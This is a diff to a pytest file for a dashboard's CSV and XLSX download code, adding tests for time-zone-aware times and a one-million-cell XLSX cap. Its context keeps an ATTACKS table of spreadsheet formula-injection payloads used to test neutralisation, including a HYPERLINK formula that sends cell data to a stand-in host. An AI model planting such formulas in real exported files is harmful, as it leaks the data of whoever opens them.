@@ -5,13 +5,22 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import date
+from datetime import date, time, timedelta, timezone
 
+import numpy as np
 import openpyxl
 import pandas as pd
 import pytest
 
-from dashboard.downloads import FORMULA_TRIGGERS, csv_bytes, neutralise, xlsx_bytes
+from dashboard.downloads import (
+    FORMULA_TRIGGERS,
+    XLSX_CELL_CAP,
+    TooManyCells,
+    csv_bytes,
+    neutralise,
+    xlsx_bytes,
+    xlsx_refusal,
+)
 
 ATTACKS = {
     "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -99,3 +108,24 @@ def test_xlsx_holds_values_openpyxl_cannot_write_directly():
     )
     row = list(read_xlsx(xlsx_bytes(frame, []))["Data"].iter_rows(min_row=2, values_only=True))
     assert row == [("2025-01-01T10:00:00+00:00", "abc")]
+
+
+def test_a_time_with_a_utc_offset_downloads_as_text_that_keeps_the_offset():
+    # DuckDB's TIMETZ arrives as a time with tzinfo, which openpyxl refuses (a TypeError).
+    offsets = [timezone(timedelta(hours=2)), timezone(-timedelta(hours=5, minutes=30))]
+    frame = pd.DataFrame({"at": [time(10, 30, tzinfo=offsets[0]), time(8, tzinfo=offsets[1])]})
+    rows = list(read_xlsx(xlsx_bytes(frame, []))["Data"].iter_rows(values_only=True))
+    assert rows == [("at",), ("10:30:00+02:00",), ("08:00:00-05:30",)]
+
+
+def test_an_xlsx_of_more_than_a_million_cells_is_refused_with_a_clear_message():
+    at_cap = pd.DataFrame(np.zeros((XLSX_CELL_CAP // 1000, 1000), dtype="int8"))
+    assert xlsx_refusal(at_cap) is None
+    over = pd.DataFrame(np.zeros((XLSX_CELL_CAP // 1000 + 1, 1000), dtype="int8"))
+    message = xlsx_refusal(over)
+    assert message == (
+        "XLSX download is limited to 1,000,000 cells and this table has 1,001,000: "
+        "download the CSV, or narrow the query (fewer columns or a LIMIT)."
+    )
+    with pytest.raises(TooManyCells, match="limited to 1,000,000 cells"):
+        xlsx_bytes(over, [])
